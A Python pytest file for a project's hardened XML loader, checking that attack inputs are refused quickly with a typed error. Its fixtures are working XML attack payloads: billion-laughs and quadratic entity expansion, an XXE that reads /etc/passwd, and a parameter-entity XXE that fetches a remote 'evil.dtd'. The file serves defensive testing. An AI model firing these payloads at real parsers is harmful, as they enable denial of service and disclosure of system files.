"""Hardened XML loading: attack payloads are refused with our typed error, quickly."""

from __future__ import annotations

import time

import pytest

from newsclaims.errors import InputError, UnsafeInputError
from newsclaims.parsers.safexml import MAX_BYTES, MAX_DEPTH, parse_html_tree, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<nitf><body>&lol9;</body></nitf>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"x" * 50_000 + b'">]><nitf>' + b"&a;" * 5_000 + b"</nitf>"
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><p>&xxe;</p></body></nitf>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<nitf/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE nitf SYSTEM "http://example.invalid/nitf.dtd">
<nitf><body><p>text</p></body></nitf>"""


@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS, QUADRATIC, XXE, PARAMETER_XXE, EXTERNAL_DTD],
    ids=["billion-laughs", "quadratic", "xxe-file", "xxe-parameter", "external-dtd"],
)
def test_attacks_are_refused_quickly(payload: bytes) -> None:
    start = time.perf_counter()
    with pytest.raises(UnsafeInputError):
        parse_xml(payload)
    assert time.perf_counter() - start < 1.0


def test_xxe_never_reads_the_file_even_as_text() -> None:
    with pytest.raises(UnsafeInputError) as caught:
        parse_xml(XXE.decode("ascii"))
    assert "root:" not in str(caught.value)


def test_deep_nesting_is_refused() -> None:
    depth = MAX_DEPTH + 10
    payload = "<a>" * depth + "</a>" * depth
    with pytest.raises(UnsafeInputError, match="deeper"):
        parse_xml(payload)


def test_very_deep_nesting_is_refused_quickly() -> None:
    payload = "<a>" * 100_000 + "</a>" * 100_000
    start = time.perf_counter()
    with pytest.raises(UnsafeInputError):
        parse_xml(payload)
    assert time.perf_counter() - start < 2.0


def test_huge_document_is_refused_before_parsing() -> None:
    payload = b"<nitf>" + b" " * MAX_BYTES + b"</nitf>"
    start = time.perf_counter()
    with pytest.raises(UnsafeInputError, match="larger"):
        parse_xml(payload)
    assert time.perf_counter() - start < 1.0


def test_broken_xml_is_an_input_error() -> None:
    with pytest.raises(InputError, match="well-formed"):
        parse_xml(b"<nitf><body></nitf>")


def test_plain_doctype_without_entities_is_accepted() -> None:
    root = parse_xml(b'<!DOCTYPE nitf><nitf version="3.6"><head/></nitf>')
    assert root.tag == "nitf"
    assert root.get("version") == "3.6"


def test_str_with_encoding_declaration_parses() -> None:
    root = parse_xml('<?xml version="1.0" encoding="iso-8859-1"?><nitf><p>Tromsø</p></nitf>')
    assert root.findtext("p") == "Tromsø"


def test_html_tree_ignores_entities_and_empty_pages() -> None:
    tree = parse_html_tree("<html><body><p>Hello &amp; bye</p></body></html>")
    assert tree.findtext(".//p") == "Hello & bye"
    with pytest.raises(InputError):
        parse_html_tree("   ")


def test_utf8_declared_as_latin1_reads_right() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><doc>Bülow</doc>'.encode()
    assert parse_xml(data).text == "Bülow"


def test_latin1_declared_as_latin1_reads_right() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><doc>Bülow</doc>'.encode("latin-1")
    assert parse_xml(data).text == "Bülow"
